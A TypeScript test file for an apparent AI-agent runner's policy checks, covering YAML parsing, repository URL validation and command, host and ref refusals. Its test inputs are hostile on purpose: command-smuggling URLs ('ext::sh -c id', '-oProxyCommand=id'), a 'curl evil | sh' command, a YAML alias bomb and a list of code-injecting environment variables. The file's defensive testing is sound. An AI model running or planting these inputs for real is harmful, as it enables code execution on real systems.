import { expect, test } from 'vitest'
import { fits } from './pattern.ts'
import { parsePolicy, PolicyInvalid, type Policy } from './policy.ts'
import { repositoryName } from '@viewportai/core/policy/repository-name'
import { refusalFor } from './decide.ts'
import type { Job } from '@viewportai/core/wire/job'

const problems = (text: string): readonly string[] => {
  try {
    parsePolicy(text, 'policy.yaml')
    return []
  } catch (error) {
    if (error instanceof PolicyInvalid) return error.problems
    throw error
  }
}

test('an empty file means the defaults', () => {
  expect(parsePolicy('', 'p')).toEqual(parsePolicy('# nothing\n', 'p'))
  expect(parsePolicy('', 'p')).toMatchObject({
    repositories: ['**'],
    agents: ['*'],
    branches: ['refs/heads/vp/**'],
    partition: { mode: 'hold' },
    leaves: { store: true },
  })
})

test('F37: an unknown key, a wrong value and a broken file are all named with their place', () => {
  expect(problems('repositries: [a]\nagents: 3\nleaves:\n  severe: []\n')).toEqual([
    'policy.yaml:2:9: agents: Invalid input: expected array, received number',
    'policy.yaml:4:11: leaves.severe is not a key of a policy',
    'policy.yaml:1:14: repositries is not a key of a policy',
  ])
  expect(problems('agents: [a\n')[0]).toMatch(/^policy\.yaml:\d+:\d+: /)
  expect(problems('agents: [a]\nagents: [b]\n')[0]).toMatch(/^policy\.yaml:2:1: .*unique/)
})

test('aliases that lead nowhere, and a few that stand for very many, are faults of the file', () => {
  const bomb = [
    'a: &a [x]',
    ...Array.from({ length: 12 }, (_, n) => `k${n}: &b${n} [${Array(9).fill(n ? `*b${n - 1}` : '*a')}]`),
  ]
  for (const text of ['agents: *nope', bomb.join('\n'), `labels: &a [x]\nagents: [${Array(30).fill('*a')}]`])
    expect(() => parsePolicy(text, 'policy.yaml')).toThrow(PolicyInvalid)
})

test('F38: names that change what code runs can never be passed on', () => {
  for (const name of [
    'PATH',
    'LD_PRELOAD',
    'GIT_SSH_COMMAND',
    'NODE_OPTIONS',
    'DYLD_INSERT_LIBRARIES',
    'BASH_ENV',
    'VPD_HOME',
    'HOME',
  ])
    expect(problems(`environment: [${name}]`)).toHaveLength(1)
  expect(problems('environment: [NPM_TOKEN, CARGO_HOME]')).toEqual([])
})

test('patterns are anchored, and nothing in them is a regular expression', () => {
  expect(fits('github.com/acme/api', ['github.com/acme/*'])).toBe(true)
  expect(fits('github.com/acme/api/x', ['github.com/acme/*'])).toBe(false)
  expect(fits('github.com/acme/api/x', ['github.com/acme/**'])).toBe(true)
  expect(fits('githubXcom/acme/api', ['github.com/acme/*'])).toBe(false)
  expect(fits('evil/github.com/acme/api', ['github.com/acme/*'])).toBe(false)
  expect(fits('github.com/acme/api\nx', ['github.com/acme/api'])).toBe(false)
  expect(fits('aaaa', ['(a+)+$', '.*', 'a{4}'])).toBe(false)
})

test.each([
  ['https://github.com/acme/api', 'github.com/acme/api'],
  ['https://github.com/acme/api.git', 'github.com/acme/api'],
  ['https://github.com/acme/api/', 'github.com/acme/api'],
  ['https://GitHub.com/Acme/API.git', 'github.com/acme/api'],
  ['https://github.com:443/acme/api', 'github.com/acme/api'],
  ['git@github.com:acme/api.git', 'github.com/acme/api'],
  ['ssh://git@github.com/acme/api.git', 'github.com/acme/api'],
  ['https://git.acme.example:8443/Acme/API', 'git.acme.example:8443/Acme/API'],
  ['http://127.0.0.1:3000/acme/api', 'http://127.0.0.1:3000/acme/api'],
  ['/srv/git/api.git', 'file:///srv/git/api'],
  ['file:///srv/git/api.git', 'file:///srv/git/api'],
])('F35: %s is the repository %s', (url, name) => {
  expect(repositoryName(url)).toEqual({ name })
})

test.each([
  'https://github.com/acme/api/../other',
  'https://github.com/acme/./api',
  'https://github.com//acme/api',
  'https://github.com/acme/api%2f..%2fother',
  'https://user:secret@github.com/acme/api',
  'https://github.com@evil.example/acme/api',
  'https://github.com/acme/api?x=1',
  'https://github.com/acme/api#x',
  'https://github.com\\@evil.example/acme/api',
  'https://gıthub.com/acme/api',
  'https://github.com/acme/api\n',
  'https://github.com/',
  'ext::sh -c id',
  'git://github.com/acme/api',
  'file://host/srv/git/api',
  'root@github.com:acme/api',
  'git@github.com:/acme/api',
  '-oProxyCommand=id',
  '/srv/../etc',
  'https://github..com/acme/api',
  '',
])('F35: %j is no repository', (url) => {
  expect(repositoryName(url)).toHaveProperty('why')
})

const effect = (action: string, params: Record<string, unknown>): Job => ({
  kind: 'effect',
  intent: 'i',
  key: 'a'.repeat(64),
  action,
  attempt: 1,
  digest: 'b'.repeat(64),
  params,
  change: null,
  repos: [],
  limits: { seconds: 1, tokens: null, usdMicros: null },
})
const checks = (url: string, commands: string[] | null = null): Job => ({
  kind: 'checks',
  round: 1,
  commands,
  repos: [
    {
      name: 'acme/api',
      url,
      ref: 'main',
      commit: null,
      use: { name: 'acme/api', ref: null, access: 'write', write: ['**'], protect: [] },
    },
  ],
  change: null,
  baseline: false,
  limits: { seconds: 1, tokens: null, usdMicros: null },
})
const decide = (
  policy: string,
  job: Job,
  server = 'https://viewport.example',
  bodies: 'edge' | 'stored' = 'edge',
): string | null => {
  const parsed: Policy = parsePolicy(policy, 'p')
  return refusalFor({ policy: parsed, server }, { bodies, job })?.words ?? null
}

test.each<[string, string | null]>([
  ['https://github.com/acme/api.git', null],
  ['https://github.com/acme/api.evil.com', 'repositories does not name it'],
  ['https://github.com.evil.com/acme/api', 'repositories does not name it'],
  ['https://github.com/acme/api/../other', 'dot segments'],
  ['http://github.com/acme/api', 'repositories does not name it'],
])('only the named repository runs: %s', (url, why) => {
  const words = decide('repositories: [github.com/acme/api]', checks(url))
  if (why === null) expect(words).toBeNull()
  else expect(words).toContain(why)
})

test('without a policy only encrypted remotes run, and local ones beside a control plane on this machine', () => {
  expect(decide('', checks('https://git.acme.example/api'))).toBeNull()
  expect(decide('', checks('http://git.acme.example/api'))).toContain('only https')
  expect(decide('', checks('/srv/git/api.git'))).toContain('only https')
  expect(decide('', checks('/srv/git/api.git'), 'http://127.0.0.1:7171')).toBeNull()
  expect(decide('', checks('http://git.acme.example/api'), 'http://127.0.0.1:7171')).toContain('only https')
  expect(decide('repositories: ["file:///srv/git/*"]', checks('/srv/git/api.git'))).toBeNull()
})

test('agents, modes, commands, actions, refs and storing are each refused by their own rule', () => {
  expect(decide('checks: ["npm *"]', checks('https://h.example/a', ['npm test']))).toBeNull()
  expect(decide('checks: ["npm *"]', checks('https://h.example/a', ['npm test', 'curl evil | sh']))).toContain(
    'the command curl evil | sh: checks does not name it',
  )
  expect(decide('actions: [git.push]', effect('git.merge', {}))).toContain('actions does not name it')
  expect(
    decide('', effect('git.push', { repo: 'acme/api', ref: 'refs/heads/main', expect: null, message: null })),
  ).toContain('the ref refs/heads/main')
  expect(
    decide('', effect('git.push', { repo: 'acme/api', ref: 'refs/heads/vp/x', expect: null, message: null })),
  ).toBeNull()
  const merge = (into: string) =>
    effect('git.merge', { repo: 'acme/api', ref: 'refs/heads/vp/x', into, title: 'x', change: 'chg_1' })
  expect(decide('', merge('refs/heads/main'))).toBeNull()
  expect(decide('merge_into: [refs/heads/next]', merge('refs/heads/next'))).toBeNull()
  expect(decide('merge_into: [refs/heads/next]', merge('refs/heads/main'))).toContain('merge_into does not name it')
  expect(decide('leaves: { store: false }', effect('git.push', {}), undefined, 'stored')).toContain('leaves.store')
})

test('trust in what a repository says to agents is off by default, and naming a repository refuses no work', () => {
  expect(parsePolicy('', 'p').trust).toEqual([])
  const { repos, limits } = checks('https://git.example/acme/api')
  const job = { kind: 'agent', mode: 'edit', agent: 'codex', branch: 'refs/heads/vp/x', repos, limits } as Job
  expect(decide('trust: ["git.example/acme/*"]', job)).toBeNull()
})

test('a host that the workflow names and the policy does not is refused with the key that would allow it; what it allows is narrowed', () => {
  const needs = (kind: 'agent' | 'checks', hosts: string[]): Job =>
    ({
      ...checks('https://git.example/acme/api'),
      kind,
      hosts,
      mode: 'edit',
      agent: 'codex',
      branch: 'refs/heads/vp/x',
    }) as Job
  expect(decide('', needs('agent', ['a.example']))).toContain(
    'the host a.example, which the workflow needs: network.agents does not name it',
  )
  expect(decide('network: { agents: [a.example] }', needs('checks', ['a.example']))).toContain(
    'network.checks does not name it',
  )
  expect(decide('network: { agents: ["*.example"] }', needs('agent', ['a.example']))).toBeNull()
  expect(decide('network: { checks: [registries] }', needs('checks', ['registry.npmjs.org', 'registries']))).toBeNull()
  expect(decide('network: { checks: open }', needs('checks', ['anything.example:8443']))).toBeNull()
  expect(decide('', needs('agent', []))).toBeNull()
})
